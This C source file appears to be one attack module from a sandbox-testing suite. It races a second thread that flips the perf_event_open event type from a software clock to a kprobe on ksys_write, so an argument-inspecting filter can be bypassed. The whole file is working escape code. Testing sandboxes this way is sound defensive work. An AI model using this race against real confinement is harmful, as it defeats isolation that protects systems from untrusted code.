// SPDX-License-Identifier: Apache-2.0
// Probe the kernel for all processes of a processor by perf_event_open(2), shown to whoever looks at the call's
// arguments as a clock: another thread changes the kind of event all the while.
#include <errno.h>
#include <fcntl.h>
#include <linux/perf_event.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "race.h"
#include "row.h"

static struct perf_event_attr attr;
static unsigned probe;

static void show(bool harmless)
{
    __atomic_store_n(&attr.type, harmless ? PERF_TYPE_SOFTWARE : probe, __ATOMIC_SEQ_CST);
}

// What a clock has no use for.
static bool is_probe(int event)
{
    return ioctl(event, PERF_EVENT_IOC_SET_FILTER, "common_pid > 0") == 0;
}

enum row_result row_attack(const struct row_victim *victim)
{
    const char *path = "/sys/bus/event_source/devices/kprobe/type";
    char text[16] = "";
    enum row_result result = ROW_ABSENT;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    (void)victim;
    if (fd < 0 || read(fd, text, sizeof(text) - 1) <= 0) {
        return row_from_errno(path);
    }
    close(fd);
    probe = (unsigned)strtoul(text, NULL, 10);
    attr = (struct perf_event_attr){.type = PERF_TYPE_SOFTWARE,
                                    .size = sizeof(attr),
                                    .disabled = 1,
                                    .kprobe_func = (unsigned long)"ksys_write"};
    if (!row_race_begin(show)) {
        return ROW_ABSENT;
    }
    for (int i = 0; result != ROW_LEAKED && row_race_goes_on(i, result != ROW_ABSENT); i++) {
        int event = (int)syscall(SYS_perf_event_open, &attr, -1, 0, -1, PERF_FLAG_FD_CLOEXEC);
        if (event >= 0) {
            result = is_probe(event) ? ROW_LEAKED : result;
            close(event);
        } else if (errno == EPERM) {
            result = ROW_REFUSED;
        }
    }
    row_race_end();
    return result;
}
